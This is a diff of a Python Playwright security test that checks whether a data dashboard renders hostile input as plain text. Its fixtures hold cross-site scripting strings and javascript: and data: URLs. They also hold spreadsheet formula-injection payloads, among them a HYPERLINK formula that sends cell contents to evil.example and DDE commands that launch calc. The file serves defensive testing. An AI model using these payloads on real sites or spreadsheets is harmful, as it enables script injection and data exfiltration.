@@ -1,4 +1,4 @@
-"""What others wrote (headlines, coupon codes, names of products and places) stays text: page, report, files."""
+"""What others wrote (headlines, names of products and places) stays text: page, report, files."""
 
 import csv
 import io
@@ -30,9 +30,13 @@ SCRIPTS = [
     "{red|rich}\u2028<b>bold</b>",
     "]]><!--<script>window.pwned = 6</script>-->",
 ]
-FORMULAS = ["=HYPERLINK(\"https://evil.example/\"&A1,\"prize\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/"&A1,"prize")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|'/C calc'!A0",
+]
 ADDRESSES = [
-    "https://news.example.org/\"onmouseover=\"window.pwned=10",
+    'https://news.example.org/"onmouseover="window.pwned=10',
     "javascript:window.pwned=7",
     " JavaScript:window.pwned=8",
     "data:text/html,<script>window.pwned=9</script>",
@@ -70,7 +74,9 @@ def write(folder: Path) -> str:
         fct_product_abc=poisoned("fct_product_abc", "item", "category"),
         fct_basket_affinity=poisoned("fct_basket_affinity", "item_a", "item_b"),
         fct_location_performance=poisoned("fct_location_performance", "location", "location_kind"),
-        fct_at_risk_customers=poisoned("fct_at_risk_customers", "segment_name", "lifecycle_stage", "next_best_action"),
+        fct_at_risk_customers=poisoned(
+            "fct_at_risk_customers", "segment_name", "lifecycle_stage", "next_best_action"
+        ),
         customers=poisoned("customers", "location", "segment_name", "next_best_action"),
         segments=poisoned("segments", "segment_name", "next_best_action"),
         quarantine_summary=poisoned("quarantine_summary", "reason"),
@@ -112,8 +118,14 @@ def assert_harmless(page: Page, seen: list[str]) -> None:
     for chart in page.locator("[data-chart]").all():  # tooltips, too, are made of what data holds
         chart.hover(force=True)
     assert page.evaluate("window.pwned") is None
-    assert page.evaluate("document.querySelectorAll('article img, article iframe, article svg [onload]').length") == 0
-    assert page.evaluate("[...document.querySelectorAll('*')].some((one) => one.hasAttribute('onerror'))") is False
+    assert (
+        page.evaluate("document.querySelectorAll('article img, article iframe, article svg [onload]').length")
+        == 0
+    )
+    assert (
+        page.evaluate("[...document.querySelectorAll('*')].some((one) => one.hasAttribute('onerror'))")
+        is False
+    )
     assert seen == []
     news = page.locator("#news tbody tr")
     assert news.first.locator("td").nth(1).inner_text() in TEXTS
@@ -167,7 +179,12 @@ def test_an_address_cannot_bring_a_script(hostile: str, browser: Browser, tmp_pa
     settings: Any = Settings(insights_location=hostile, local_dir=tmp_path, duckdb_path=tmp_path / "none")
     with served(settings) as address:
         page, seen = watched(browser)
-        query = {"period": "custom", "first": "2019-01-01", "last": "2019-02-01", name: "<script>pwned=1</script>"}
+        query = {
+            "period": "custom",
+            "first": "2019-01-01",
+            "last": "2019-02-01",
+            name: "<script>pwned=1</script>",
+        }
         page.goto(address + "?" + "&".join(f"{key}={value}" for key, value in query.items()))
         assert page.evaluate("window.pwned") is None
         assert [one for one in seen if "400" not in one] == []
